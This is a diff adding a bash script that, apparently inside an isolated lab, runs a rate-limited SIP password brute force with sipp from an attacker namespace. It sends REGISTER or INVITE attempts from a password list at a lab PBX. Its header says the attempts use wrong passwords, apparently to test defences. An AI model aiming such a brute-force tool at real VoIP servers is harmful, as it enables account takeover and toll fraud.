@@ -1,0 +1,65 @@
+#!/usr/bin/env bash
+# Password brute force with sipp from the attacker namespace: one call per password,
+# each REGISTER (or INVITE) -> challenge -> request with a wrong password -> failure.
+#
+#   LAB_ID=ID bruteforce.sh [--family 4|6] [--transport udp|tcp] [--src ADDR]
+#        [--user 100] [--count N] [--rate PER_S] [--method REGISTER|INVITE]
+#        [--target NUMBER] [--ua STRING] [--passwords FILE] [--port N]
+#        [--timeout S] [--background] [--tag NAME]
+# Defaults: IPv4, UDP, from the attacker's main address, user 100, 20 guesses at 5/s,
+# REGISTER, no User-Agent, sipp/passwords.txt, a system-chosen source port, 60 s.
+# The count is capped by the number of passwords; the run ends by itself after
+# --timeout at the latest.
+set -euo pipefail
+# shellcheck source=lib.sh
+source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
+
+family=4 transport=udp src="" user=100 count=20 rate=5 method=REGISTER target=0044123456789
+ua="" passwords="$LAB_DIR/sipp/passwords.txt" port="" timeout=60 bg="" tag=""
+while [ $# -gt 0 ]; do
+  case "$1" in
+  --family) family="$2"; shift 2 ;;
+  --transport) transport="$2"; shift 2 ;;
+  --src) src="$2"; shift 2 ;;
+  --user) user="$2"; shift 2 ;;
+  --count) count="$2"; shift 2 ;;
+  --rate) rate="$2"; shift 2 ;;
+  --method) method="$2"; shift 2 ;;
+  --target) target="$2"; shift 2 ;;
+  --ua) ua="$2"; shift 2 ;;
+  --passwords) passwords="$2"; shift 2 ;;
+  --port) port="$2"; shift 2 ;;
+  --timeout) timeout="$2"; shift 2 ;;
+  --background) bg=1; shift ;;
+  --tag) tag="$2"; shift 2 ;;
+  *) die "bruteforce.sh: unknown argument '$1'" ;;
+  esac
+done
+check_family "$family"
+check_transport "$transport"
+check_int count "$count"
+check_int rate "$rate"
+check_int timeout "$timeout"
+[ -z "$port" ] || check_int port "$port"
+[[ "$target" =~ ^[0-9A-Za-z]+$ ]] || die "bad target '$target'"
+((rate >= 1 && timeout >= 1 && timeout <= 600)) || die "rate must be >= 1 and timeout 1-600 s"
+lab_from_env
+if [ -z "$src" ]; then
+  src="$ATK4"
+  [ "$family" = 6 ] && src="$ATK6"
+fi
+check_atk_addr "$src"
+[ -n "$tag" ] || tag="bf-$(echo "$src" | tr -c '0-9a-f\n' '-')-$transport"
+[[ "$tag" =~ ^[a-z0-9-]+$ ]] || die "bad tag '$tag'"
+
+mkdir -p "$RUN/sipp"
+scenario="$RUN/sipp/$tag.xml"
+"$LAB_DIR/sipp/gen-bruteforce.sh" "$user" "$passwords" "$method" "$ua" >"$scenario"
+npw="$(grep -c '<label id="p' "$scenario")"
+((count <= npw)) || count="$npw"
+args=(-sf "$scenario" -t "$(sipp_transport "$transport")" -i "$src"
+  -key target "$target" -r "$rate" -rp 1000 -l 10 -m "$count"
+  -timeout "${timeout}s" -recv_timeout 3000 -max_retrans 2 -nostdin)
+[ -z "$port" ] || args+=(-p "$port")
+spawn "$tag" "$NS_ATK" sipp "${args[@]}" "$(pbx_target "$family")"
+[ -n "$bg" ] || wait_named "$tag" "$((timeout + 5))"
